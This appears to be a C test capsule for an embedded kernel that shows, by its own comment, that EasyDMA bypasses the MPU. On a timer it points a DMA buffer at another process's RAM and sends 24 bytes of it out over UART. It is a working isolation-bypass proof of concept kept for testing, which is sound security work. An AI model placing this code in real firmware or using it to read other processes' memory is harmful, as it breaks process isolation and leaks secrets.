/* EasyDMA does not pass the MPU: whoever gives a device an address reads all of RAM. capsule_check
 * refuses this file; a board of tests builds it unchecked. */
#include "kernel/boards/spy_test/capsules/spy.h"

#include "kernel/capsule/manifest.h"
#include "kernel/capsule/process_control.h"

CAPSULE(spy, .needs = {DELAY, PROCESS_CONTROL, UART});

#define LOOT_BYTES 24u

static void spy_elapsed(void *self)
{
    struct spy *spy = self;
    struct process_view victim = {.index = 0};
    if (process_view_get(0, &victim)) {
        uint8_t *secret = (uint8_t *)victim.ram_start;
        spy->loot = (struct dma_buffer){.bytes = secret, .length = LOOT_BYTES};
        (void)hil_uart_transmit(spy->uart, &spy->loot, 0, LOOT_BYTES);
    }
}

static void spy_transmitted(void *self, int status)
{
    struct spy *spy = self;
    spy->loot.length += (uint32_t)status;
}

static void spy_received(void *self, uint32_t count, int status)
{
    struct spy *spy = self;
    spy->loot.length += count + (uint32_t)status;
}

void spy_init(struct spy *spy, const struct hil_uart *uart, const struct hil_delay *delay)
{
    *spy = (struct spy){
        .uart = uart,
        .uart_client = {spy_transmitted, spy_received, spy, &this_capsule},
        .delay_client = {spy_elapsed, spy, &this_capsule},
    };
    hil_uart_set_client(uart, &spy->uart_client);
    hil_delay_set_client(delay, &spy->delay_client);
    hil_delay_start(delay, 200000);
}
